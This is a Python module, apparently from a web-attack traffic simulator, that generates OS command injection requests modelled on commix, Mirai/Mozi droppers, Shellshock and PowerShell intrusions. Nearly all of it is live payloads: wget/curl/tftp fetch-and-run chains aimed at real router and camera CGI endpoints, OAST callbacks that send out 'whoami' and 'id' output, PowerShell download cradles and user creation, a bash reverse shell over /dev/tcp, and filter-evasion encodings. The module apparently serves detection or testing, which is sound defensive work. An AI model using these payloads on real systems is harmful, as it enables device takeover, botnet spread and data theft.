"""Operating-system command injection as tools, botnets and people write it.

Sources: commix (calculated markers), Mirai and Mozi droppers in published honeypot logs, Burp and interactsh callbacks,
CVE-2014-6271 reports, GTFOBins and PayloadsAllTheThings-style evasions, PowerShell cradles in incident reports.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

import base64
from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier


def _loader(rng: Random) -> str:
    return f"{rng.randrange(5, 222)}.{rng.randrange(1, 254)}.{rng.randrange(1, 254)}.{rng.randrange(1, 254)}"


def separators(rng: Random, aim: Aim) -> Shot:
    """A separator and a command whose output proves it ran."""
    marker = identifier(rng, 6, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    command = rng.choice(("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "pwd", "ifconfig", "ping -c 3 127.0.0.1",
        f"echo {marker}$(({rng.randrange(10, 99)}+{rng.randrange(10, 99)}))$(echo {marker}){marker}", "sleep 5",
        f"expr {rng.randrange(100, 999)} + {rng.randrange(100, 999)}", "cat /etc/issue", "env", "ps aux"))
    text = rng.choice((f";{command}", f"|{command}", f"||{command}", f"&&{command}", f"&{command}&", f"`{command}`", f"$({command})",
        f"\n{command}\n", f"';{command};'", f"\"|{command}|\"", f"| {command} #", f"); {command}; ("))
    keep = rng.choice(("", "127.0.0.1", "8.8.8.8", str(rng.randrange(99)), "localhost"))
    return aim.query(rng, rng.choice((wire.library, wire.form, wire.curl))(rng, text), "command", keep)


def droppers(rng: Random, aim: Aim) -> Shot:
    """Botnets that look for routers and cameras: fetch a binary, make it run, remove it."""
    host, name = _loader(rng), rng.choice(("mozi.m", "jaws", "bins.sh", "x86", "arm7", "Mozi.a", "wget.sh", "tplink.sh", "lol.sh", "skyljne.mips",
        "okamimmips"))
    fetch = rng.choice((f"wget http://{host}/{name} -O /tmp/{name}", f"wget http://{host}:{rng.randrange(20000, 60000)}/{name} -O- |sh",
        f"curl -O http://{host}/{name}", f"tftp -g -r {name} {host}"))
    chain = rng.choice((f"cd /tmp;rm -rf *;{fetch};chmod 777 {name};sh {name}", f"cd /tmp || cd /var/run; {fetch}; sh {name}; rm -rf {name}",
        f"rm -rf /tmp/*;{fetch};sh /tmp/{name}", f"{fetch};chmod +x {name};./{name} {rng.choice(('jaws.exploit', 'selfrep', 'netgear', 'tplink'))}"))
    plus = chain.replace(" ", "+")
    return rng.choice((
        Shot("/shell", plus), Shot("/setup.cgi", f"next_file=netgear.cfg&todo=syscmd&cmd={plus}&curpath=/&currentsetting.htm=1"),
        Shot("/cgi-bin/luci/;stok=/locale", f"form=country&operation=write&country=$({wire.library(rng, chain)})"),
        Shot("/GponForm/diag_Form", f"images/&XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{plus}`", method="POST"),
        Shot("/cgi-bin/nobody/Search.cgi", f"action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;{plus}"),
        Shot("/board.cgi", f"cmd={plus}"), Shot("/cgi-bin/;" + chain.replace(" ", "${IFS}").replace("/", "%2F")),
        Shot("/device.rsp", f"opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc={wire.library(rng, chain)}"),
        Shot("/cgi-bin/account_mgr.cgi", f"cmd=cgi_user_add&name=%27;{wire.library(rng, chain)};%27"),
    ))


def callbacks(rng: Random, aim: Aim) -> Shot:
    """Blind: the command calls a name under the attacker's control, in any parameter and now and then in the agent."""
    home = identifier(rng, 20) + rng.choice((".oast.fun", ".oast.pro", ".oastify.com", ".dnslog.cn", ".ceye.io", ".interact.sh"))
    call = rng.choice((f"curl http://{home}", f"nslookup {home}", f"wget -q -O- http://{home}/`whoami`", f"ping -c 1 {home}",
        f"curl `id|base64 -w0`.{home}", f"host $(hostname).{home}", f"certutil -urlcache -f http://{home}/a a"))
    text = rng.choice((f"`{call}`", f"$({call})", f";{call};", f"|{call}", f"&{call}&'\\\"`0&{call}&`'", f"||{call}||x", f"'$({call})'"))
    if rng.random() < 0.2:
        return aim.agent(rng, f"{rng.choice(('Mozilla/5.0', 'curl/7.68.0', ''))}{text}".strip())
    return aim.query(rng, rng.choice((wire.library, wire.form))(rng, text), rng.choice(("command", "text", "url", "id")), identifier(rng, 3))


def powershell(rng: Random, aim: Aim) -> Shot:
    """Windows hosts: cmd and PowerShell cradles."""
    host = _loader(rng)
    script = f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{identifier(rng, 4)}.ps1')"
    text = rng.choice((f"&powershell -nop -w hidden -c \"{script}\"", f"|powershell -enc {base64.b64encode(script.encode('utf-16-le')).decode()}",
        "&dir c:\\", "|type C:\\Windows\\win.ini", "& whoami /all",
        f"&&certutil.exe -urlcache -split -f http://{host}/{identifier(rng, 5)}.exe %TEMP%\\a.exe",
        f"|cmd /c \"net user {identifier(rng, 5)} P@ss1 /add\"", f"& bitsadmin /transfer j http://{host}/p.exe c:\\p.exe", "%26ipconfig%20/all",
        f"| mshta http://{host}/x.hta", "&tasklist"))
    return aim.query(rng, rng.choice((wire.library, wire.browser))(rng, text), rng.choice(("command", "file")))


def shellshock(rng: Random, aim: Aim) -> Shot:
    """A bash function in user agent or referer, against CGI scripts."""
    host = _loader(rng)
    body = rng.choice((f"/bin/bash -c \"wget http://{host}/{identifier(rng, 4)} -O /tmp/x;sh /tmp/x\"", "echo; echo; /bin/cat /etc/passwd",
        f"/bin/bash -i >& /dev/tcp/{host}/{rng.randrange(1024, 9999)} 0>&1", "/usr/bin/id", f"/usr/bin/curl -s http://{host}/s|bash",
        f"echo Content-type:text/plain;echo;echo {identifier(rng, 12)}"))
    text = f"() {{ {rng.choice((':;', ':; ', 'ignored;', '_;'))}}} {rng.choice(('; ', ';', '>_[$($())] { '))}{body}" + rng.choice(("", ";", " }"))
    path = rng.choice(("/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/test-cgi", "/cgi-bin/php5", "/cgi-sys/defaultwebpage.cgi",
        "/cgi-mod/index.cgi", "/cgi-bin/hello", "/", "/cgi-bin/bash", "/cgi-bin/env.cgi"))
    return Shot(path, agent=text) if rng.random() < 0.7 else Shot(path, referer=text)


def evasions(rng: Random, aim: Aim) -> Shot:
    """Words cut up: $IFS, quotes and wildcards inside names, braces, base64 piped to a shell, other interpreters."""
    blank = rng.choice(("${IFS}", "$IFS$9", "{,}", "<", "%09", "${IFS%??}"))
    cat = rng.choice(("c'a't", "c\\at", "/bin/c?t", "ca${x}t", "/???/??t", "$(rev<<<tac)", "c$@at"))
    file = rng.choice(("/e??/p?ss??", "/etc$u/passwd", "/et'c'/pas'swd'", "${HOME:0:1}etc${HOME:0:1}passwd"))
    packed = base64.b64encode(f"curl {_loader(rng)}/{identifier(rng, 4)}|sh".encode()).decode()
    text = rng.choice((f";{cat}{blank}{file}", f"|{{{cat},{file}}}", f";echo{blank}{packed}|base64{blank}-d|sh", f"$(printf{blank}'\\151\\144')",
        f";python3{blank}-c{blank}'import os;os.system(\"id\")'", f";perl{blank}-e{blank}'exec \"id\"'", f"%0a{cat}{blank}{file}%0a", "1;w'h'o'am'i",
        "`$'\\x69\\x64'`", f"||{packed[:8]}=id;$_", f";a=i;b=d;$a$b;{identifier(rng, 2)}"))
    return aim.query(rng, rng.choice((wire.raw, wire.library, wire.scattered))(rng, text), "command", rng.choice(("", "127.0.0.1")))
